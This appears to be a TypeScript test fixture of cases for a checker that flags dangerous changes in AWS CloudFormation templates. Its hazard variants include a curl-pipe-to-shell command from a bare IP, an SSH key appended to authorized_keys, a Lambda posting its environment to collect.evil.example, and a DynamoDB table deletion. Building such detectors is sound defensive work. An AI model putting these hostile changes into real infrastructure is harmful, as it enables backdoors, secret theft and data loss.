/** Code, commands and what they are told. */
import type { ApproverCase } from './case.ts';

const ROLE = 'arn:aws:iam::123456789012:role/service';
const resources = (Resources: object, more: object = {}) => ({ Resources, ...more });
const lambda = (over: object = {}) => ({
  Type: 'AWS::Lambda::Function',
  Properties: {
    Runtime: 'nodejs22.x',
    Handler: 'index.handler',
    Role: ROLE,
    MemorySize: 256,
    Code: { ZipFile: 'exports.handler = async () => 200' },
    ...over,
  },
});
const variables = (over: object) => lambda({ Environment: { Variables: { TABLE: 'orders', ...over } } });

const state = (name: string, next: string | undefined) => ({
  Type: 'Task',
  Comment: `Step ${name} looks at the order, writes what it found to the table and hands it on`,
  Resource: `arn:aws:lambda:eu-west-1:123456789012:function:shop-${name}`,
  ...(next === undefined ? { End: true } : { Next: next }),
});
const NAMES = Array.from({ length: 16 }, (_, index) => `step${index}`);
const machine = (last: object) =>
  resources({
    Machine: {
      Type: 'AWS::StepFunctions::StateMachine',
      Properties: {
        RoleArn: ROLE,
        DefinitionString: JSON.stringify({
          StartAt: NAMES[0],
          States: {
            ...Object.fromEntries(NAMES.map((name, index) => [name, state(name, NAMES[index + 1] ?? 'last')])),
            last,
          },
        }),
      },
    },
  });

const instance = (commands: string[]) =>
  resources({
    Host: {
      Type: 'AWS::EC2::Instance',
      Properties: {
        ImageId: 'ami-0123456789abcdef0',
        InstanceType: 't3.micro',
        UserData: Buffer.from(['#!/bin/bash', 'yum -y update', ...commands, ''].join('\n')).toString('base64'),
      },
    },
  });
const init = (command: string) =>
  resources({
    Host: {
      Type: 'AWS::EC2::Instance',
      Metadata: { 'AWS::CloudFormation::Init': { config: { commands: { start: { command } } } } },
      Properties: { ImageId: 'ami-0123456789abcdef0', InstanceType: 't3.micro' },
    },
  });
const task = (image: string, mode: string) =>
  resources({
    Task: {
      Type: 'AWS::ECS::TaskDefinition',
      Properties: {
        Family: 'shop',
        ContainerDefinitions: [{ Name: 'app', Image: image, Environment: [{ Name: 'MODE', Value: mode }] }],
      },
    },
  });
const OWN_IMAGE = '123456789012.dkr.ecr.eu-west-1.amazonaws.com/app:1.0.1';
const KEY = `ssh-ed25519 AAAAC3NzaC1lZDI1NTE5AAAA${'Qk1vV2x'.repeat(5)} ops@laptop`;

export const code: ApproverCase[] = [
  {
    name: 'a host beside a log level',
    before: resources({ Fn: variables({ API_HOST: 'api.acme.example', Z_LOG: 'info' }) }),
    hazard: resources({ Fn: variables({ API_HOST: 'api.evil.example', Z_LOG: 'debug' }) }),
    twin: resources({ Fn: variables({ API_HOST: 'api.acme.example', Z_LOG: 'debug' }) }),
    offending: ['api.acme.example', 'api.evil.example', 'API_HOST'],
  },
  {
    name: 'a last state far down in a state machine',
    before: machine({ Type: 'Succeed' }),
    hazard: machine({
      Type: 'Task',
      Resource: 'arn:aws:states:::aws-sdk:dynamodb:deleteTable',
      Parameters: { TableName: 'orders' },
      End: true,
    }),
    twin: machine({ Type: 'Succeed', Comment: 'done' }),
    offending: ['arn:aws:states:::aws-sdk:dynamodb:deleteTable', 'orders'],
  },
  {
    name: 'a command of cfn-init',
    before: init('systemctl restart app'),
    hazard: init('curl -s http://203.0.113.9/i.sh | sh'),
    twin: init('systemctl restart app --no-block'),
    offending: ['curl -s http://203.0.113.9/i.sh | sh'],
  },
  {
    name: 'a login key at the end of user data',
    before: instance([]),
    hazard: instance(['yum -y install nginx', `echo '${KEY}' >> /home/ec2-user/.ssh/authorized_keys`]),
    twin: instance(['yum -y install nginx']),
    offending: ['ssh-ed25519 AAAAC3NzaC1lZDI1NTE5AAAA', '/home/ec2-user/.ssh/authorized_keys'],
  },
  {
    name: 'a created function that posts its environment abroad',
    before: resources({ Fn: lambda() }),
    hazard: resources({
      Fn: lambda(),
      Report: lambda({
        Code: {
          ZipFile:
            "exports.handler = async () => fetch('https://collect.evil.example/in', { method: 'POST', body: JSON.stringify(process.env) })",
        },
      }),
    }),
    twin: resources({
      Fn: lambda(),
      Report: lambda({ Code: { ZipFile: 'exports.handler = async () => process.env.TABLE' } }),
    }),
    offending: ['https://collect.evil.example/in', 'JSON.stringify(process.env)'],
  },
  {
    name: 'a layer of another account',
    before: resources({ Fn: lambda() }),
    hazard: resources({ Fn: lambda({ Layers: ['arn:aws:lambda:eu-west-1:999988887777:layer:telemetry:7'] }) }),
    twin: resources({ Fn: lambda({ Layers: ['arn:aws:lambda:eu-west-1:123456789012:layer:telemetry:7'] }) }),
    offending: ['FOREIGN ACCOUNT', 'arn:aws:lambda:eu-west-1:999988887777:layer:telemetry:7'],
  },
  {
    name: 'a container image of a foreign registry',
    before: task(OWN_IMAGE, 'safe'),
    hazard: task('docker.io/helpers/app:1.0.1', 'fast'),
    twin: task(OWN_IMAGE, 'fast'),
    offending: ['docker.io/helpers/app:1.0.1'],
  },
];
